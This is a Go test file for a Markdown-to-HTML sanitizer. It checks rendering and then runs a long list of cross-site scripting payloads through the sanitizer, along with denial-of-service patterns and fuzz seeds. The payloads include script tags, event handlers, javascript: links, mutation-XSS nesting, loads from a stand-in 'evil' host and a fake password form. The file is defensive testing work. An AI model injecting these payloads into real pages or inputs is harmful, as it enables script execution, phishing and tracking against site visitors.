package markdown

import (
	"regexp"
	"strings"
	"testing"
	"time"

	nethtml "golang.org/x/net/html"
)

func TestHTML(t *testing.T) {
	for in, want := range map[string]string{
		"# Coverage\n\n| a | b |\n|---|--:|\n| *1* | ~~2~~ |": `<h1>Coverage</h1>
<table>
<thead>
<tr>
<th>a</th>
<th align="right">b</th>
</tr>
</thead>
<tbody>
<tr>
<td><em>1</em></td>
<td align="right"><del>2</del></td>
</tr>
</tbody>
</table>
`,
		"<table><tr><td data=\"x\" colspan=\"2\">c</td></tr></table>": "<table><tbody><tr><td colspan=\"2\">c</td></tr></tbody></table>",
		"<details open><summary>More</summary>\n\nx\n\n</details>":    "<details open=\"\"><summary>More</summary>\n<p>x</p>\n</details>",
		"```go\nif a < b {}\n```":                                     "<pre><code>if a &lt; b {}\n</code></pre>\n",
		"- [x] done\n- [ ] not":                                       "<ul>\n<li>☑ done</li>\n<li>☐ not</li>\n</ul>\n",
		"[a](https://x.org/?q=1&r)":                                   "<p><a href=\"https://x.org/?q=1&amp;r\" rel=\"noopener noreferrer nofollow\">a</a></p>\n",
		"https://x.org/a":                                             "<p><a href=\"https://x.org/a\" rel=\"noopener noreferrer nofollow\">https://x.org/a</a></p>\n",
		"![chart](https://x.org/a.png)":                               "<p><a href=\"https://x.org/a.png\" rel=\"noopener noreferrer nofollow\">chart</a></p>\n",
		"[![badge](https://x.org/a.svg)](https://x.org)":              "<p><a href=\"https://x.org\" rel=\"noopener noreferrer nofollow\">badge</a></p>\n",
		"[here](runs/1) [up](//evil.org) [m](mailto:a@x.org)":         "<p><a rel=\"noopener noreferrer nofollow\">here</a> <a rel=\"noopener noreferrer nofollow\">up</a> <a href=\"mailto:a@x.org\" rel=\"noopener noreferrer nofollow\">m</a></p>\n",
		"one\ntwo <custom-tag>kept</custom-tag> <b id=log>b</b>":      "<p>one<br/>\ntwo kept <b>b</b></p>\n",
	} {
		if got := string(HTML(in)); got != want {
			t.Errorf("%q:\n%q\nwant\n%q", in, got, want)
		}
	}
}

// attempts are summaries that would run a script, load something, leave their place or
// pose as the page, were the markup in them taken as it comes.
var attempts = []string{
	"<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\" &#1; javascript:alert(1)\">x</a>", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "![x](javascript:alert(1))",
	"<iframe src=https://evil></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=https://evil></object>",
	"<embed src=https://evil>", "<link rel=stylesheet href=https://evil>", "<meta http-equiv=refresh content='0;url=https://evil'>",
	"<base href=https://evil/>", "<style>*{background:url(https://evil)}</style>", "<p style=\"background:url(https://evil)\">x</p>",
	"<img src=https://evil/pixel.png srcset=https://evil/2>", "<picture><source srcset=https://evil><img src=https://evil></picture>",
	"<video src=https://evil autoplay></video>", "<audio src=https://evil></audio>",
	"<form action=https://evil><input name=password type=password><button>Log in</button></form>",
	"<textarea></textarea><script>alert(1)</script>", "</div></section></body><script>alert(1)</script>",
	"</details></li></ol><h1>The run is green</h1>", "<div id=log class=state onclick=alert(1)>x</div>", "<a name=log href=#>x</a>",
	"<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
	"<xmp><p title=\"</xmp><script>alert(1)</script>\">", "<plaintext>", "<body onload=alert(1)>",
	"<table background=https://evil><td background=https://evil>", "<td><script>alert(1)</script>", "<a href=https://a:b@evil>x</a>",
	"<details ontoggle=alert(1) open>x", "<template><script>alert(1)</script></template>", "<select><option><script>alert(1)</script>",
	"<input type=image src=https://evil>", "<input autofocus onfocus=alert(1)>", "`<script>alert(1)</script>`",
	"```\n</code></pre><script>alert(1)</script>\n```", "``` \"onload=alert(1)\nx\n```", "[x]: javascript:alert(1)\n[x]",
	"<javascript:alert(1)>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "\u202e<b>\u202d",
	"<a href=\"https://x.org/\"onmouseover=alert(1)>x</a>",
}

// safe says what is wrong with HTML that is to stand in a page.
func safe(t *testing.T, in, out string) {
	t.Helper()
	depth := 0
	z := nethtml.NewTokenizer(strings.NewReader(out))
	for {
		kind := z.Next()
		if kind == nethtml.ErrorToken {
			break
		}
		tok := z.Token()
		switch kind {
		case nethtml.CommentToken, nethtml.DoctypeToken:
			t.Errorf("%q: a comment in %q", in, out)
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			allowed, known := elements[tok.DataAtom]
			if !known || tok.Data == "img" || tok.Data == "input" {
				t.Errorf("%q: <%s> in %q", in, tok.Data, out)
			}
			for _, a := range tok.Attr {
				ok := a.Key == "rel"
				for _, k := range allowed {
					ok = ok || k == a.Key
				}
				if !ok || a.Key == "href" && !regexp.MustCompile(`^(https?://[^@]+|mailto:.+)$`).MatchString(a.Val) {
					t.Errorf("%q: %s=%q in %q", in, a.Key, a.Val, out)
				}
			}
			if kind == nethtml.StartTagToken && tok.Data != "br" && tok.Data != "hr" {
				depth++
			}
		case nethtml.EndTagToken:
			if depth--; depth < 0 {
				t.Errorf("%q closes what it has not opened: %q", in, out)
			}
		}
	}
	if depth != 0 {
		t.Errorf("%q leaves %d open: %q", in, depth, out)
	}
}

// A step's summary is Markdown and HTML of a hostile machine's, and stands in a page of
// whoever has logged in.
func TestAttackMarkup(t *testing.T) {
	for _, in := range attempts {
		for _, around := range []string{"%", "text\n\n%\n\ntext", "> - %", "<div>\n%\n</div>", "| a |\n|---|\n| % |", "<details><summary>%</summary>\n\n%\n"} {
			in := strings.ReplaceAll(around, "%", in)
			out := string(HTML(in))
			safe(t, in, out)
			// A browser that parses it finds the same again: nothing changes its meaning.
			if again := string(HTML("<div>" + out + "</div>")); strings.Contains(again, "alert(1)") && strings.Contains(again, "<script") {
				t.Errorf("%q: %q", in, again)
			}
		}
	}
}

// A summary costs no more than its length: patterns that are known to take parsers of
// Markdown or HTML a time or a depth that grows with its square.
func TestAttackEndlessMarkup(t *testing.T) {
	// As long as it may be, and with as many marks as it may have.
	fill := func(s string) string {
		n := maxText / len(s)
		m := 0
		for _, r := range marks {
			m += strings.Count(s, string(r))
		}
		if m > 0 {
			n = min(n, maxMarks/m)
		}
		return strings.Repeat(s, n)
	}
	for _, in := range []string{
		fill("["), fill("]"), fill("*a "), fill("**a_b "), fill("`a``"), fill("<!--"), fill("<![CDATA["), fill("> "), fill("- "), fill("* "),
		fill("<div>"), fill("<table><tr><td>"), fill("<a><b>"), fill("[a]("), fill("![["), fill("\\"), fill("<p><b>"),
		fill("<b><a href=https://x>"), fill("a\n"), fill("|a"), "a|b\n-|-\n" + fill("|"), fill("~~a"), fill("www.a."), fill("http://"),
		fill("a@a."), fill("&"), fill("1. "), fill("[^a]"), fill("[a]: b\n"), fill("<details><summary>"), fill("</p>"), fill("_a__b*"),
		fill("   >\n"), fill("- a\n  "), fill("[a](<b"), fill("<x "), fill("<a b='"), fill("[[]"), fill("![a](b)[c](d)"),
	} {
		done := make(chan string, 1)
		go func() { done <- string(HTML(in)) }()
		select {
		case out := <-done:
			safe(t, in[:20], out)
		case <-time.After(20 * time.Second):
			t.Errorf("%.20q… takes more than a minute", in)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, in := range attempts {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) < 4<<10 {
			safe(t, in, string(HTML(in)))
		}
	})
}

func BenchmarkHTML(b *testing.B) {
	text := strings.Repeat("| file | *lines* | `x` |\n", 10_000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		HTML("| a | b | c |\n|---|---|---|\n" + text)
	}
}
